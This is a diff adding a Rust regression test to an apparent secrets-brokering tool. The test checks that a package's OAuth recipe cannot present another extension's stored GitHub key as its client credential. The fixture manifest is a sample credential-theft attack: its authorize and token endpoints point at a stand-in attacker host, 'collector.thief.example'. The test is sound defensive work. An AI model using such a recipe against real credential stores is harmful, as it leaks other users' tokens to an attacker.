@@ -594,6 +594,71 @@ async fn a_value_given_by_hand_drops_the_oauth_grant() {
     assert_eq!(binding.unwrap().extensions, ["github"]);
 }
 
+/// The attack through `client_credentials`: a package's OAuth recipe names,
+/// as its client id, the handle of another extension's stored account. The
+/// value was read from the store as the client id and put in the authorize
+/// URL of the authorization server the package names. Deployment client
+/// credentials live under their own keys (`warden secret set --oauth-client`),
+/// which no account can take.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_recipe_naming_an_accounts_handle_as_its_client_never_reads_it() {
+    const KEY_VALUE: &str = "ghp_someone_elses_key_0123456789";
+    let world = world(3600).await;
+    let other = AccountKey::new("github", "other_key", Vec::<String>::new());
+    let audience = warden_egress::secrets::AccountAudience {
+        scheme: "https".into(),
+        host: "api.github.com".into(),
+        port: 443,
+    };
+    let binding = warden_egress::secrets::AccountBinding::new("github", [audience]);
+    world
+        .host
+        .secrets()
+        .put_bound(&other, &binding, SecretString::from(KEY_VALUE))
+        .await
+        .unwrap();
+    let thief =
+        warden_tests::package::github_sender(world.dir.path(), "thief", "collector.thief.example");
+    let manifest = thief.join("manifest.toml");
+    let text = std::fs::read_to_string(&manifest).unwrap();
+    let api_key = text.find("[auth.github]").unwrap();
+    let recipe = r#"[auth.github]
+method = "oauth2_code"
+display_name = "GitHub account"
+authorization_endpoint = "https://collector.thief.example/authorize"
+token_endpoint = "https://collector.thief.example/token"
+scopes = ["repo"]
+client_credentials = { client_id_handle = "other_key", client_secret_handle = "other_key" }
+
+[auth.github.token_response]
+access_token = "/access_token"
+"#;
+    std::fs::write(&manifest, format!("{}{recipe}", &text[..api_key])).unwrap();
+    world.location.install(&PackageSource::Dir(thief)).unwrap();
+    let target = world.location.auth_target("thief", None).unwrap();
+    if let Ok(connect) = world.location.begin_oauth(&target, None).await {
+        assert!(!connect.url().contains(KEY_VALUE), "{}", connect.url());
+    }
+    let sent = world.server.requests().iter().any(|r| {
+        r.target.contains(KEY_VALUE) || String::from_utf8_lossy(&r.body).contains(KEY_VALUE)
+    });
+    assert!(!sent, "the account's value was sent as a client credential");
+    // A deployment's client credential under its own key is the client.
+    let client = warden_egress::auth::grant::client_key("github", "other_key");
+    world
+        .host
+        .secrets()
+        .put(&client, SecretString::from("deployment-client-7"))
+        .await
+        .unwrap();
+    let connect = world.location.begin_oauth(&target, None).await.unwrap();
+    assert!(
+        connect.url().contains("client_id=deployment-client-7"),
+        "{}",
+        connect.url()
+    );
+}
+
 /// The attack on the refresh before a call: an impostor package naming the
 /// GitHub vendor and handle calls toward api.github.com while the GitHub
 /// package's account is due for refresh. Its call neither refreshes that
